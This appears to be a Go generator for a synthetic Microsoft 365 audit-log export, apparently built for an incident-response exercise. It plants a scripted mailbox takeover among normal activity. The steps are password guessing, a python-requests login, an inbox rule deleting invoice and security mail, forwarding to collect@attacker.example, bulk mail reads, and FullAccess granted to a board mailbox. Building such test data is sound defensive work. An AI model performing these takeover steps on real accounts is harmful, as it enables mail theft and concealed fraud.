package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"log"
	"strings"
	"time"
)

// m365Takeover writes a Search-UnifiedAuditLog export of a tenant in which the mailbox of mara is taken over: guessing,
// a login from abroad, a rule that hides replies, forwarding, mail read. A part of the records is exported twice, as
// real exports are.
func m365Takeover(w *world) []byte {
	const tenant = "corp.example"
	var j journal
	csvLine := func(fields ...string) string {
		var b strings.Builder
		c := csv.NewWriter(&b)
		if err := c.Write(fields); err != nil {
			log.Fatal(err)
		}
		c.Flush()
		return strings.TrimSuffix(b.String(), "\n")
	}
	type object = map[string]any
	add := func(t time.Time, operation, workload, user, ip string, recordType int, more object) {
		user += "@" + tenant
		r := object{"CreationTime": t.Format("2006-01-02T15:04:05"), "Id": w.guid(), "Operation": operation, "OrganizationId": "5d1f2c7a-0c8e-4d7e-9d53-0c7a3c2b1e11",
			"RecordType": recordType, "ResultStatus": "Succeeded", "UserKey": user, "UserType": 0, "Version": 1, "Workload": workload, "UserId": user}
		switch {
		case workload == "Exchange" && recordType == 1:
			r["ClientIP"] = ip + ":50123"
		case workload == "Exchange":
			r["ClientIPAddress"] = ip
		default:
			r["ClientIP"] = ip
		}
		for k, v := range more {
			r[k] = v
		}
		p, err := json.Marshal(r)
		if err != nil {
			log.Fatal(err)
		}
		text := csvLine(t.Format("1/2/2006 3:04:05 PM"), user, operation, fmt.Sprint(recordType), string(p), "1", "1", r["Id"].(string), "True", "Unchanged")
		j.add(t, "%s", text)
		if w.IntN(4) == 0 {
			j.add(t, "%s", text)
		}
	}
	login := func(t time.Time, user, ip, agent string, session string) {
		add(t, "UserLoggedIn", "AzureActiveDirectory", user, ip, 15, object{"ActorIpAddress": ip, "ApplicationId": "5d661950-3475-41cd-a2c3-d671a3162bc1", "ErrorNumber": "0",
			"ExtendedProperties": []object{{"Name": "UserAgent", "Value": agent}, {"Name": "RequestType", "Value": "OAuth2:Authorize"}},
			"DeviceProperties":   []object{{"Name": "SessionId", "Value": session}}})
	}
	read := func(t time.Time, user, ip, session, kind string, items int) {
		properties := []object{{"Name": "MailAccessType", "Value": kind}, {"Name": "IsThrottled", "Value": "False"}}
		common := object{"MailboxOwnerUPN": user + "@" + tenant, "MailboxGuid": "96ab9c16-4d14-4711-8ee4-94cdd6434873", "LogonType": 0, "ExternalAccess": false, "SessionId": session,
			"ClientInfoString": "Client=OWA;Action=ViaProxy", "OperationProperties": properties}
		if kind == "Sync" {
			common["Item"] = object{"Id": "LgAAAA", "ParentFolder": object{"Id": "LgAAAADg6EHB", "Name": "Inbox", "Path": "Not Available"}}
			common["ClientInfoString"] = "Client=MSExchangeRPC"
			add(t, "MailItemsAccessed", "Exchange", user, ip, 2, common)
			return
		}
		var list []object
		for range items {
			list = append(list, object{"InternetMessageId": "<" + w.guid() + "@mail." + tenant + ">"})
		}
		common["Folders"] = []object{{"Id": "LgAAAADg6EHB", "Path": "\\Inbox", "FolderItems": list}}
		common["OperationCount"] = items
		add(t, "MailItemsAccessed", "Exchange", user, ip, 50, common)
	}

	from := time.Date(2026, 2, 9, 6, 0, 0, 0, time.UTC)
	for day := range 5 {
		for i, p := range w.people {
			t := from.Add(time.Duration(day)*24*time.Hour + time.Duration(i*7+w.IntN(60))*time.Minute)
			s := w.guid()
			login(t, p.name, p.office, p.agent, s)
			for range 2 + w.IntN(3) {
				t = t.Add(time.Duration(10+w.IntN(60)) * time.Minute)
				read(t, p.name, p.office, s, "Bind", 1+w.IntN(4))
			}
			if w.IntN(6) == 0 {
				add(t, "UserLoginFailed", "AzureActiveDirectory", p.name, p.office, 15, object{"ActorIpAddress": p.office, "ErrorNumber": "50126", "LogonError": "InvalidUserNameOrPassword", "ResultStatus": "Success"})
			}
		}
	}
	const thief, mara = "203.0.113.50", "mara"
	login(from.Add(3*time.Hour), mara, "198.51.100.14", browsers[0], w.guid())
	t := time.Date(2026, 2, 12, 21, 4, 0, 0, time.UTC)
	for range 28 {
		add(t, "UserLoginFailed", "AzureActiveDirectory", mara, thief, 15, object{"ActorIpAddress": thief, "ErrorNumber": "50126", "LogonError": "InvalidUserNameOrPassword", "ResultStatus": "Success"})
		t = t.Add(time.Duration(5+w.IntN(20)) * time.Second)
	}
	s := w.guid()
	login(t, mara, thief, "python-requests/2.31.0", s)
	read(t.Add(2*time.Minute), mara, thief, s, "Bind", 6)
	add(t.Add(4*time.Minute), "New-InboxRule", "Exchange", mara, thief, 1, object{"ObjectId": mara, "Parameters": []object{
		{"Name": "Name", "Value": "."}, {"Name": "SubjectContainsWords", "Value": "invoice;payment;security"}, {"Name": "DeleteMessage", "Value": "True"}, {"Name": "StopProcessingRules", "Value": "True"}}})
	add(t.Add(6*time.Minute), "Set-Mailbox", "Exchange", mara, thief, 1, object{"ObjectId": mara, "Parameters": []object{
		{"Name": "Identity", "Value": mara}, {"Name": "ForwardingSmtpAddress", "Value": "smtp:collect@attacker.example"}, {"Name": "DeliverToMailboxAndForward", "Value": "True"}}})
	for i := range 12 {
		read(t.Add(time.Duration(8+i)*time.Minute), mara, thief, s, "Bind", 8+w.IntN(4))
	}
	read(t.Add(25*time.Minute), mara, thief, s, "Sync", 0)
	add(t.Add(31*time.Minute), "Add-MailboxPermission", "Exchange", mara, thief, 1, object{"ObjectId": "board", "Parameters": []object{
		{"Name": "Identity", "Value": "board"}, {"Name": "User", "Value": mara + "@" + tenant}, {"Name": "AccessRights", "Value": "FullAccess"}}})

	head := "CreationDate,UserIds,Operations,RecordType,AuditData,ResultIndex,ResultCount,Identity,IsValid,ObjectState\n"
	return append([]byte(head), j.all("\n")...)
}
